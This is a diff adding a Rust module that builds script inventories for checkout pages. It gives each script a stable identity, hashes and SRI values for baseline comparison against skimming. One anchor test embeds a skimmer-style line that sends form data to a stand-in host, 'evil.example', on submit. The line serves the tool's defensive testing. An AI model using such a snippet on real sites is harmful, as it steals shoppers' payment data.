@@ -1,1 +1,475 @@
-//! (stub: being written)
+//! Turns a captured [`Snapshot`] into an [`Inventory`]: every script gets a stable identity and
+//! its hashes, so that `compare` can match it against the approved baseline.
+//!
+//! # Identity rules
+//!
+//! An identity must stay the same for the same script across page loads and environments, and
+//! must change when it is a different script. The rules:
+//!
+//! - **Page origin** is the origin of the snapshot's final URL (after redirects; the requested
+//!   URL if there is none). A URL on the page's own origin is written `self:` + path (+ `?query`
+//!   if any); any other URL is written absolute. Fragments are always dropped. This makes a
+//!   baseline approved on production match staging.
+//! - **Frame key**: the top-level document is `main`; any other frame is its document URL,
+//!   written the same way but without query and fragment.
+//! - **External, module and worker scripts with a URL**: the script URL as above; in a frame
+//!   other than the main one, prefixed with `<frame key>|`.
+//! - **`data:` URL**: `<frame key>|data|<first 16 hex of SHA-256 of the URL>`.
+//!   **`blob:` URL** (random per load): `<frame key>|blob|<anchor>`.
+//! - **Inline script** (and inline module): `<frame key>|inline|#<context>` when the element has
+//!   a context (its `id`), else `<frame key>|inline|<anchor>`.
+//! - **Event handler**: `<frame key>|handler|<context>` (e.g. `img#logo@onerror`), else
+//!   `<frame key>|handler|<anchor>`.
+//! - **eval / new Function / string timer**: `<frame key>|eval|<initiator or unknown>|<anchor>`,
+//!   the initiator URL written as above.
+//! - **Anchor**: the first 10 hex of the SHA-256 of the first 64 characters of the code's
+//!   skeleton, where the skeleton is the code with string literals (`'…'`, `"…"`, `` `…` ``)
+//!   replaced by `S`, numeric literals by `0`, and all whitespace and comments removed. So the
+//!   anchor survives edits to data literals and appended statements, but not a change at the
+//!   start of the code (for code whose skeleton is shorter than 64 characters, any change to
+//!   the skeleton).
+//! - **Collisions**: when two scripts in one snapshot get the same identity with different
+//!   content, the later ones (in document order) get `#2`, `#3`, …; identical duplicates
+//!   (same identity and SHA-256) are listed once.
+//!
+//! A `|` inside a frame key or initiator is written `%7C`, so the frame key is always the part
+//! of an identity before the first `|` for inline, handler, eval and data scripts.
+
+use crate::model::{Inventory, RawScript, Script, ScriptKind, Snapshot};
+use base64::Engine as _;
+use sha2::{Digest, Sha256, Sha384};
+use std::collections::HashMap;
+use url::{Origin, Url};
+
+/// Number of skeleton characters hashed into an anchor.
+const ANCHOR_SKELETON_CHARS: usize = 64;
+
+/// Builds the inventory of one page load: identities, hashes, scripts sorted by id.
+pub fn inventory(snapshot: &Snapshot) -> Inventory {
+    let origin = page_origin(snapshot);
+    // base identity → identities already handed out for it, with their content hash.
+    let mut taken: HashMap<String, Vec<(String, String)>> = HashMap::new();
+    let mut scripts = Vec::new();
+    for raw in &snapshot.scripts {
+        let base = identity_with_origin(raw, &origin);
+        let sha = sha256_hex(&raw.source);
+        let used = taken.entry(base.clone()).or_default();
+        if used.iter().any(|(_, s)| *s == sha) {
+            continue;
+        }
+        let id = if used.is_empty() { base } else { format!("{base}#{}", used.len() + 1) };
+        used.push((id.clone(), sha.clone()));
+        scripts.push(Script {
+            id,
+            kind: raw.kind,
+            url: raw.url.clone(),
+            frame_url: raw.frame_url.clone(),
+            sha256: sha,
+            sri: sri_sha384(&raw.source),
+            bytes: raw.source.len() as u64,
+            initiator: raw.initiator.clone(),
+            source: raw.source.clone(),
+        });
+    }
+    // Stable sort: equal ids cannot occur, but keep document order as the tie-break anyway.
+    scripts.sort_by(|a, b| a.id.cmp(&b.id));
+    Inventory {
+        url: snapshot.url.clone(),
+        final_url: snapshot.final_url.clone(),
+        status: snapshot.status,
+        headers: snapshot.headers.clone(),
+        scripts,
+        hosts: snapshot.hosts.clone(),
+        payment_fields: snapshot.payment_fields.clone(),
+    }
+}
+
+/// Lower-case hex SHA-256 of the UTF-8 bytes of `s`.
+pub fn sha256_hex(s: &str) -> String {
+    hex::encode(Sha256::digest(s.as_bytes()))
+}
+
+/// Subresource-integrity value for `s`: `sha384-` + standard base64 of its SHA-384, exactly
+/// what a browser expects in an `integrity=` attribute.
+pub fn sri_sha384(s: &str) -> String {
+    let digest = Sha384::digest(s.as_bytes());
+    format!("sha384-{}", base64::engine::general_purpose::STANDARD.encode(digest))
+}
+
+/// `host`, or `host:port` when the port is not the scheme's default. `None` for URLs without
+/// a host (`data:`, `blob:`, `about:`) or that do not parse.
+pub fn host_of(url: &str) -> Option<String> {
+    let parsed = Url::parse(url).ok()?;
+    let host = parsed.host_str()?;
+    if host.is_empty() {
+        return None;
+    }
+    // `Url::port` is already `None` when the port is the scheme's default.
+    Some(match parsed.port() {
+        Some(port) => format!("{host}:{port}"),
+        None => host.to_string(),
+    })
+}
+
+/// Identity of one script on a page whose URL (after redirects) is `page_url`.
+/// See the module documentation for the rules.
+pub fn script_identity(raw: &RawScript, page_url: &str) -> String {
+    identity_with_origin(raw, &origin_of(page_url))
+}
+
+/// The anchor of a piece of code: first 10 hex of the SHA-256 of the first 64 characters of its
+/// skeleton (see the module documentation).
+pub fn anchor(code: &str) -> String {
+    let skel: String = skeleton(code).chars().take(ANCHOR_SKELETON_CHARS).collect();
+    sha256_hex(&skel)[..10].to_string()
+}
+
+fn page_origin(snapshot: &Snapshot) -> Origin {
+    let page = if snapshot.final_url.is_empty() { &snapshot.url } else { &snapshot.final_url };
+    origin_of(page)
+}
+
+fn origin_of(url: &str) -> Origin {
+    match Url::parse(url) {
+        Ok(u) => u.origin(),
+        // An opaque origin never equals another origin, so every URL is written absolute.
+        Err(_) => Url::parse("data:,").expect("static URL").origin(),
+    }
+}
+
+fn identity_with_origin(raw: &RawScript, origin: &Origin) -> String {
+    let frame = frame_key(raw, origin);
+    match raw.kind {
+        ScriptKind::Eval => {
+            let initiator = raw
+                .initiator
+                .as_deref()
+                .map(|i| canonical_initiator(i, origin))
+                .unwrap_or_else(|| "unknown".to_string());
+            format!("{frame}|eval|{initiator}|{}", anchor(&raw.source))
+        }
+        ScriptKind::Handler => match &raw.context {
+            Some(ctx) => format!("{frame}|handler|{ctx}"),
+            None => format!("{frame}|handler|{}", anchor(&raw.source)),
+        },
+        _ => match raw.url.as_deref() {
+            Some(u) if has_scheme(u, "data") => {
+                format!("{frame}|data|{}", &sha256_hex(u)[..16])
+            }
+            Some(u) if has_scheme(u, "blob") => {
+                format!("{frame}|blob|{}", anchor(&raw.source))
+            }
+            Some(u) if !u.is_empty() => {
+                let id = canonical_url(u, origin, true);
+                if raw.main_frame {
+                    id
+                } else {
+                    format!("{frame}|{id}")
+                }
+            }
+            // Inline scripts and inline modules (no URL).
+            _ => match &raw.context {
+                Some(ctx) => format!("{frame}|inline|#{ctx}"),
+                None => format!("{frame}|inline|{}", anchor(&raw.source)),
+            },
+        },
+    }
+}
+
+fn has_scheme(url: &str, scheme: &str) -> bool {
+    url.len() > scheme.len()
+        && url.as_bytes()[scheme.len()] == b':'
+        && url[..scheme.len()].eq_ignore_ascii_case(scheme)
+}
+
+fn frame_key(raw: &RawScript, origin: &Origin) -> String {
+    if raw.main_frame {
+        "main".to_string()
+    } else {
+        canonical_url(&raw.frame_url, origin, false).replace('|', "%7C")
+    }
+}
+
+/// Initiators are URLs or pseudo-URLs such as `inline:<frame url>`.
+fn canonical_initiator(initiator: &str, origin: &Origin) -> String {
+    let written = match initiator.strip_prefix("inline:") {
+        Some(frame) => format!("inline:{}", canonical_url(frame, origin, false)),
+        None => canonical_url(initiator, origin, true),
+    };
+    written.replace('|', "%7C")
+}
+
+/// Writes `url` as `self:/path?query` on the page origin, else absolute; never a fragment.
+fn canonical_url(url: &str, origin: &Origin, keep_query: bool) -> String {
+    let Ok(mut parsed) = Url::parse(url) else {
+        // Not a URL we understand: keep it, minus the fragment.
+        return url.split('#').next().unwrap_or(url).to_string();
+    };
+    parsed.set_fragment(None);
+    if !keep_query {
+        parsed.set_query(None);
+    }
+    if origin.is_tuple() && parsed.origin() == *origin {
+        let mut out = format!("self:{}", parsed.path());
+        if let Some(q) = parsed.query().filter(|q| !q.is_empty()) {
+            out.push('?');
+            out.push_str(q);
+        }
+        out
+    } else {
+        parsed.to_string()
+    }
+}
+
+/// The code with string literals → `S`, numeric literals → `0`, whitespace and comments removed.
+///
+/// A deliberately small scanner, not a JS lexer: regular-expression literals are not
+/// recognised. It only has to be deterministic, and stable under edits to literals.
+fn skeleton(code: &str) -> String {
+    let chars: Vec<char> = code.chars().collect();
+    let mut out = String::with_capacity(code.len().min(4096));
+    // Whether the previous source character continues an identifier, so that the digits in
+    // `a1` are not taken for a number.
+    let mut in_ident = false;
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        if c.is_whitespace() {
+            in_ident = false;
+            i += 1;
+        } else if c == '/' && chars.get(i + 1) == Some(&'/') {
+            while i < chars.len() && chars[i] != '\n' {
+                i += 1;
+            }
+            in_ident = false;
+        } else if c == '/' && chars.get(i + 1) == Some(&'*') {
+            i += 2;
+            while i < chars.len() && !(chars[i] == '*' && chars.get(i + 1) == Some(&'/')) {
+                i += 1;
+            }
+            i += 2;
+            in_ident = false;
+        } else if c == '\'' || c == '"' || c == '`' {
+            i += 1;
+            while i < chars.len() && chars[i] != c {
+                // Skip the escaped character, which may be the quote itself.
+                i += if chars[i] == '\\' { 2 } else { 1 };
+            }
+            i += 1;
+            out.push('S');
+            in_ident = false;
+        } else if c == '\\' {
+            // An escape outside a string (inside a regex, say): keep the pair so that `\/` is
+            // not read as the start of a comment.
+            out.push(c);
+            if let Some(&next) = chars.get(i + 1) {
+                out.push(next);
+            }
+            i += 2;
+            in_ident = false;
+        } else if !in_ident
+            && (c.is_ascii_digit()
+                || (c == '.' && chars.get(i + 1).is_some_and(|n| n.is_ascii_digit())))
+        {
+            // 12, 1.5, .5, 0xFF, 1_000, 10n, 1e5 (a signed exponent leaves `-0`, harmlessly).
+            while i < chars.len() && (chars[i].is_ascii_alphanumeric() || chars[i] == '.' || chars[i] == '_') {
+                i += 1;
+            }
+            out.push('0');
+            in_ident = false;
+        } else {
+            out.push(c);
+            in_ident = c.is_alphanumeric() || c == '_' || c == '$';
+            i += 1;
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::PaymentField;
+
+    fn raw(kind: ScriptKind, url: Option<&str>, source: &str) -> RawScript {
+        RawScript {
+            kind,
+            url: url.map(str::to_string),
+            frame_url: "https://shop.example/checkout".to_string(),
+            main_frame: true,
+            source: source.to_string(),
+            initiator: None,
+            context: None,
+            position: None,
+        }
+    }
+
+    fn in_frame(mut r: RawScript, frame: &str) -> RawScript {
+        r.main_frame = false;
+        r.frame_url = frame.to_string();
+        r
+    }
+
+    fn snapshot(scripts: Vec<RawScript>) -> Snapshot {
+        Snapshot {
+            url: "https://shop.example/checkout".to_string(),
+            final_url: "https://shop.example/checkout?step=2".to_string(),
+            status: 200,
+            scripts,
+            ..Snapshot::default()
+        }
+    }
+
+    const PAGE: &str = "https://shop.example/checkout";
+    // Skeleton longer than 64 characters, so appended code falls outside the anchor.
+    const LONG: &str = "window.dataLayer = window.dataLayer || []; function gtag() { dataLayer.push(arguments); } gtag('js', new Date(2024, 1, 1)); gtag('config', 'G-ABC123');";
+
+    #[test]
+    fn known_hash_vectors() {
+        assert_eq!(sha256_hex(""), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+        assert_eq!(sha256_hex("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+        assert_eq!(
+            sri_sha384("alert('Hello, world.');"),
+            "sha384-H8BRh8j48O9oYatfu5AZzq6A9RINhZO5H16dQZngK7T62em8MUt1FLm52t+eX6xO"
+        );
+    }
+
+    #[test]
+    fn host_of_keeps_only_non_default_ports() {
+        assert_eq!(host_of("https://shop.example/x").as_deref(), Some("shop.example"));
+        assert_eq!(host_of("https://shop.example:443/x").as_deref(), Some("shop.example"));
+        assert_eq!(host_of("http://localhost:8080/x").as_deref(), Some("localhost:8080"));
+        assert_eq!(host_of("https://CDN.Example:8443").as_deref(), Some("cdn.example:8443"));
+        assert_eq!(host_of("data:text/javascript,1"), None);
+        assert_eq!(host_of("not a url"), None);
+    }
+
+    #[test]
+    fn same_origin_is_self_and_third_party_is_absolute() {
+        let own = raw(ScriptKind::External, Some("https://shop.example/static/app.js?v=3#x"), "a()");
+        assert_eq!(script_identity(&own, PAGE), "self:/static/app.js?v=3");
+        let other = raw(ScriptKind::External, Some("https://cdn.example/lib.js#frag"), "b()");
+        assert_eq!(script_identity(&other, PAGE), "https://cdn.example/lib.js");
+        // Another port is another origin.
+        let port = raw(ScriptKind::External, Some("https://shop.example:8443/a.js"), "c()");
+        assert_eq!(script_identity(&port, PAGE), "https://shop.example:8443/a.js");
+        // The same script on staging gets the same identity.
+        assert_eq!(
+            script_identity(&raw(ScriptKind::External, Some("https://staging.shop.example/static/app.js?v=3"), ""),
+                "https://staging.shop.example/checkout"),
+            "self:/static/app.js?v=3"
+        );
+    }
+
+    #[test]
+    fn iframe_scripts_are_prefixed_with_the_frame_key() {
+        let ext = in_frame(raw(ScriptKind::External, Some("https://pay.example/sdk.js"), "x()"), "https://pay.example/frame?session=1#a");
+        assert_eq!(script_identity(&ext, PAGE), "https://pay.example/frame|https://pay.example/sdk.js");
+        let inl = in_frame(raw(ScriptKind::Inline, None, "x()"), "https://shop.example/embed?token=9");
+        assert_eq!(script_identity(&inl, PAGE), format!("self:/embed|inline|{}", anchor("x()")));
+        let main = raw(ScriptKind::Inline, None, "x()");
+        assert_eq!(script_identity(&main, PAGE), format!("main|inline|{}", anchor("x()")));
+    }
+
+    #[test]
+    fn inline_handler_eval_data_blob_identities() {
+        let mut inline = raw(ScriptKind::Inline, None, "var a = 1;");
+        inline.context = Some("config".into());
+        assert_eq!(script_identity(&inline, PAGE), "main|inline|#config");
+
+        let mut handler = raw(ScriptKind::Handler, None, "this.src='x.png'");
+        handler.context = Some("img#logo@onerror".into());
+        assert_eq!(script_identity(&handler, PAGE), "main|handler|img#logo@onerror");
+        handler.context = None;
+        assert_eq!(script_identity(&handler, PAGE), format!("main|handler|{}", anchor("this.src='x.png'")));
+
+        let mut eval = raw(ScriptKind::Eval, None, "go()");
+        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|unknown|{}", anchor("go()")));
+        eval.initiator = Some("https://shop.example/static/app.js#L1".into());
+        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|self:/static/app.js|{}", anchor("go()")));
+        eval.initiator = Some("inline:https://shop.example/checkout?x=1".into());
+        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|inline:self:/checkout|{}", anchor("go()")));
+
+        let data_url = "data:text/javascript,alert(1)";
+        let data = raw(ScriptKind::Data, Some(data_url), "alert(1)");
+        assert_eq!(script_identity(&data, PAGE), format!("main|data|{}", &sha256_hex(data_url)[..16]));
+
+        let blob = raw(ScriptKind::Data, Some("blob:https://shop.example/0b7c-11"), "steal()");
+        assert_eq!(script_identity(&blob, PAGE), format!("main|blob|{}", anchor("steal()")));
+    }
+
+    #[test]
+    fn anchor_ignores_literals_whitespace_and_comments() {
+        let a = anchor("var key = 'pk_live_1';\nvar n = 42; // note\nsend(key, n);");
+        let b = anchor("var key=\"pk_live_2\";/* changed */var n=7.5;send(key,n);");
+        assert_eq!(a, b);
+        assert_eq!(a.len(), 10);
+        // Identifiers with digits are not numbers.
+        assert_ne!(anchor("a1();"), anchor("a2();"));
+        assert_eq!(skeleton("x = `t${1}` + 0x1F + .5; y = a1"), "x=S+0+0;y=a1");
+    }
+
+    #[test]
+    fn anchor_survives_appended_statement_but_not_a_new_first_statement() {
+        let appended = format!("{LONG}\ndocument.forms[0].addEventListener('submit', function () {{ new Image().src = 'https://evil.example/c?d=' + btoa(x); }});");
+        assert_eq!(anchor(LONG), anchor(&appended));
+        let prepended = format!("var s=document.createElement('script');{LONG}");
+        assert_ne!(anchor(LONG), anchor(&prepended));
+        let edited = LONG.replacen("window.dataLayer = window.dataLayer", "window.dl = window.dl", 1);
+        assert_ne!(anchor(LONG), anchor(&edited));
+    }
+
+    #[test]
+    fn inventory_hashes_sorts_and_copies_page_data() {
+        let mut snap = snapshot(vec![
+            raw(ScriptKind::External, Some("https://shop.example/z.js"), "z()"),
+            raw(ScriptKind::External, Some("https://cdn.example/a.js"), "abc"),
+        ]);
+        snap.hosts = vec!["cdn.example".into(), "shop.example".into()];
+        snap.headers.insert("x-frame-options".into(), "DENY".into());
+        snap.payment_fields.push(PaymentField {
+            frame_url: PAGE.into(),
+            selector: "#cc".into(),
+            reason: "autocomplete=cc-number".into(),
+        });
+        let inv = inventory(&snap);
+        let ids: Vec<&str> = inv.scripts.iter().map(|s| s.id.as_str()).collect();
+        assert_eq!(ids, ["https://cdn.example/a.js", "self:/z.js"]);
+        let a = &inv.scripts[0];
+        assert_eq!(a.sha256, sha256_hex("abc"));
+        assert_eq!(a.sri, sri_sha384("abc"));
+        assert_eq!(a.bytes, 3);
+        assert_eq!(a.source, "abc");
+        assert_eq!(inv.hosts, snap.hosts);
+        assert_eq!(inv.headers, snap.headers);
+        assert_eq!(inv.payment_fields, snap.payment_fields);
+        assert_eq!(inv.status, 200);
+    }
+
+    #[test]
+    fn collisions_are_numbered_in_document_order_and_duplicates_collapse() {
+        let first = format!("{LONG} one();");
+        let second = format!("{LONG} two();");
+        let snap = snapshot(vec![
+            raw(ScriptKind::Inline, None, &first),
+            raw(ScriptKind::Inline, None, &second),
+            raw(ScriptKind::Inline, None, &first),
+            raw(ScriptKind::External, Some("https://cdn.example/a.js"), "same"),
+            raw(ScriptKind::External, Some("https://cdn.example/a.js"), "same"),
+        ]);
+        let inv = inventory(&snap);
+        let base = format!("main|inline|{}", anchor(LONG));
+        let ids: Vec<&str> = inv.scripts.iter().map(|s| s.id.as_str()).collect();
+        let expected_second = format!("{base}#2");
+        assert_eq!(ids, ["https://cdn.example/a.js", base.as_str(), expected_second.as_str()]);
+        assert_eq!(inv.scripts[1].source, first);
+        assert_eq!(inv.scripts[2].source, second);
+    }
+
+    #[test]
+    fn final_url_falls_back_to_requested_url() {
+        let mut snap = snapshot(vec![raw(ScriptKind::External, Some("https://shop.example/a.js"), "")]);
+        snap.final_url.clear();
+        assert_eq!(inventory(&snap).scripts[0].id, "self:/a.js");
+    }
+}
